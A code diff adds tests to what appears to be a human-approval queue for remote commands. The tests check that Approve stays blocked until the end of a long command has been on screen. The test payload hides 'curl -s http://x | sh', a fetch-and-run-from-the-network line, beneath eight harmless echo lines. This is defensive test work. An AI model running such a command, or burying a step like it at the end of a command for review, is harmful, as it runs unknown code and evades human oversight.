@@ -351,3 +351,39 @@ describe('outcome after a decision', () => {
     assert.equal(emptyQueueText(false, [], [], false), 'Not connected: whether anything waits for you is unknown.');
   });
 });
+
+describe('a command read to its end', () => {
+  const exec = (id: string, command: string): PendingApproval => {
+    const { target: _, window: __, ...rest } = card(id);
+    return { ...rest, action: 'remote_exec', ancestor_path: [], remote_exec: { command, timeout_ms: 5000 } };
+  };
+  const payload = ['echo 1', 'echo 2', 'echo 3', 'echo 4', 'echo 5', 'echo 6', 'echo 7', 'echo 8', 'curl -s http://x | sh'].join('\n');
+
+  it('refuses Approve, by pointer and by key, until the end of the command has been on screen; Deny never waits', () => {
+    const store = createAppStore();
+    store.getState().setConnection({ state: 'open', attempt: 0 });
+    store.getState().setPending([exec('x1', payload)], 0);
+    store.getState().noteSeen([[armKey.card('x1'), 10, 0]], 0);
+    store.getState().selectApproval('x1', 0);
+    const s = () => store.getState();
+    assert.equal(s().whyNot('x1', pointer('x1'), ARM_MS), undefined, 'the card itself is armed');
+    assert.match(s().whyNotApprove('x1', pointer('x1'), ARM_MS) ?? '', /^Not approved: the end of this command has not been on screen/);
+    assert.match(s().whyNotApprove('x1', { via: 'key' }, ARM_MS) ?? '', /^Not approved/);
+    assert.match(s().whyNotApprove('x1', pointer('x1'), 100) ?? '', /appeared 0\.1 s ago/, 'arming is still checked first');
+    s().noteEndsSeen(['x1']);
+    assert.equal(s().whyNotApprove('x1', pointer('x1'), ARM_MS), undefined);
+    assert.equal(s().whyNotApprove('x1', { via: 'key' }, ARM_MS), undefined);
+  });
+
+  it('asks nothing more of other cards, and forgets what was seen once the card is gone', () => {
+    const store = queue('a1');
+    assert.equal(store.getState().whyNotApprove('a1', pointer('a1'), ARM_MS), undefined, 'an element card never waits for an end');
+    store.getState().setPending([exec('x1', 'uptime')], 0);
+    store.getState().noteEndsSeen(['x1']);
+    const seen = store.getState().endsSeen;
+    store.getState().noteEndsSeen(['x1']);
+    assert.equal(store.getState().endsSeen, seen, 'seeing it again changes nothing');
+    store.getState().setPending([], 10);
+    assert.deepEqual(store.getState().endsSeen, {});
+  });
+});
